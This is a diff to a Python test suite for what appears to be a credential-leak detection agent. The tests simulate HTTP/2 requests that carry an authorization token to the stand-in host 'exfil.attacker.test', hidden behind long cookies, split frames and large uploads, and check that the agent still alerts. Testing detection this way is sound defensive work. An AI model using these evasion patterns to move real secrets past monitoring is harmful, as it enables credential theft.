@@ -338,25 +338,81 @@ def test_budget_catches_h2c_headers_that_start_a_large_write():
     assert sent < (64 << 10) + 16384 + 4096, sent
 
 
-def _h2c_after_upload(send_next):
-    """An h2c connection that uploads 480 KiB in DATA frames of stream 1, past a 64 KiB
-    payload budget, then send_next(sock, request) with request a HEADERS frame of stream 3
-    whose token (after a 1500-byte cookie) must be alerted on. Returns the bytes the agent
-    was sent."""
+H2_AUTHORITY = hpack_literal(b":authority", b"exfil.attacker.test")
+
+
+def _h2c_request(token, cookie=1500):
+    """A header block for stream 3 with the token after a cookie of `cookie` bytes."""
+    return H2_AUTHORITY + hpack_literal(b"cookie", b"c" * cookie) + \
+        hpack_literal(b"authorization", b"token " + token.encode())
+
+
+def _h2c_after_upload(send_next, budget="64K", upload=30):
+    """An h2c connection that uploads `upload` DATA frames of 16 KiB on stream 1 (past a 64 KiB
+    payload budget by default), then send_next(sock, request, token) with request a HEADERS
+    frame of stream 3 whose token (after a 1500-byte cookie) must be alerted on, by the h2
+    decoder (network.protocol http2). Returns the bytes the agent was sent."""
     def send(port, token):
         s = socket.create_connection(("127.0.0.1", port))
-        authority = hpack_literal(b":authority", b"exfil.attacker.test")
         s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b""))
-        s.sendall(h2_frame(1, 4, 1, authority))
+        s.sendall(h2_frame(1, 4, 1, H2_AUTHORITY))
         data = h2_frame(0, 0, 1, b"u" * 16384)
-        for _ in range(30):
+        for _ in range(upload):
             s.sendall(data)
-        send_next(s, h2_frame(1, 5, 3, authority + hpack_literal(b"cookie", b"c" * 1500) +
-                               hpack_literal(b"authorization", b"token " + token.encode())))
+        send_next(s, h2_frame(1, 5, 3, _h2c_request(token)), token)
         time.sleep(0.2)
         s.close()
-    agent = one_token_alert(send, "--payload-budget", "64K")
+    agent = one_token_alert(send, "--payload-budget", budget)
+    alert = [l for l in agent.lines if "credential" in l][0]
+    assert alert["network"].get("protocol") == "http2", alert
     return int(agent.stderr().split(" bytes sent")[0].split()[-1])
+
+
+def test_budget_copies_a_header_block_split_into_headers_and_continuation():
+    """A header block longer than a frame (a 20 KB cookie) is a HEADERS frame of the maximum
+    size and a CONTINUATION frame, in one write past the budget: both are copied whole (a
+    header block frame may be longer than the payload cap) and joined, so the token in the
+    CONTINUATION frame is decoded."""
+    def split_block(s, request, token):
+        block = _h2c_request(token, cookie=20000)
+        s.sendall(h2_frame(0, 1, 1, b"u" * 100) + h2_frame(1, 1, 3, block[:16384]) +
+                  h2_frame(9, 4, 3, block[16384:]) + h2_frame(0, 1, 3, b"v" * 100))
+    _h2c_after_upload(split_block)
+
+
+def test_budget_copies_a_headers_frame_of_the_maximum_size_whole():
+    """A HEADERS frame of 16384 bytes (frame header included: 16393) with the token at its end,
+    past the budget: copied to its last byte."""
+    def full_frame(s, request, token):
+        short = _h2c_request(token, cookie=0)
+        block = _h2c_request(token, cookie=16384 - len(short) - 2)
+        assert len(block) == 16384, len(block)
+        s.sendall(h2_frame(0, 1, 1, b"u" * 100) + h2_frame(1, 5, 3, block))
+    _h2c_after_upload(full_frame)
+
+
+def test_h2c_frames_followed_after_a_write_longer_than_the_cap():
+    """Within the budget a write longer than the payload cap is copied in part; the next write
+    starts in the middle of that write's DATA frame. Its copy starts at the next frame (a
+    HEADERS frame), so the decoder stays in step and decodes the token."""
+    def after_long_write(s, request, token):
+        frame = h2_frame(0, 0, 1, b"w" * 30000)
+        s.sendall(frame[:20009])
+        s.sendall(frame[20009:] + request)
+    _h2c_after_upload(after_long_write, budget="1M", upload=0)
+
+
+def test_budget_follows_h2c_frames_after_a_header_cut_after_eight_bytes():
+    """A frame header cut one byte short of its end (eight bytes in one write, one in the next)
+    is put together right: the frames after it stay followed, and a HEADERS frame after a
+    write that starts in the middle of a DATA frame is found."""
+    def cut_eight(s, request, token):
+        data = h2_frame(0, 0, 1, b"u" * 16384)
+        other = h2_frame(1, 5, 5, H2_AUTHORITY + hpack_literal(b"x-request", b"1"))
+        s.sendall(data + other[:8])
+        s.sendall(other[8:] + data[:100])
+        s.sendall(data[100:] + request)
+    _h2c_after_upload(cut_eight)
 
 
 def test_budget_catches_h2c_headers_after_the_last_data_frame_in_one_write():
@@ -364,7 +420,7 @@ def test_budget_catches_h2c_headers_after_the_last_data_frame_in_one_write():
     the next request's HEADERS frame in one large write right after the upload's. Past the
     budget the kernel looks past the frames that start the write, finds the HEADERS frame
     and copies that frame alone (the agent's decoder resumes at it)."""
-    def last_data_then_request(s, request):
+    def last_data_then_request(s, request, token):
         s.sendall(h2_frame(0, 1, 1, b"u" * 16384) + request)
     sent = _h2c_after_upload(last_data_then_request)
     # the budget and the HEADERS frame, not the DATA frame before it
@@ -374,7 +430,7 @@ def test_budget_catches_h2c_headers_after_the_last_data_frame_in_one_write():
 def test_budget_catches_h2c_headers_deep_in_the_first_iovec_of_sendmsg():
     """The same through sendmsg(): the HEADERS frame is looked for in the first non-empty
     iovec, after the DATA frame that starts it; the frame alone is copied."""
-    def last_data_then_request(s, request):
+    def last_data_then_request(s, request, token):
         s.sendmsg([b"", h2_frame(0, 1, 1, b"u" * 16384) + request, h2_frame(8, 0, 0,
                                                                            b"\0\0\1\0")])
     sent = _h2c_after_upload(last_data_then_request)
@@ -454,7 +510,7 @@ def test_budget_catches_h2c_headers_after_control_frames_in_one_write():
     """A write that starts with control frames (a SETTINGS ack, WINDOW_UPDATE) and then a
     HEADERS frame longer than the 1 KiB head: copied from the write's start to the frame's
     end, so the token after a long cookie is found."""
-    def control_then_request(s, request):
+    def control_then_request(s, request, token):
         s.sendall(h2_frame(4, 1, 0, b"") + h2_frame(8, 0, 0, b"\0\1\0\0") + request)
     _h2c_after_upload(control_then_request)
 
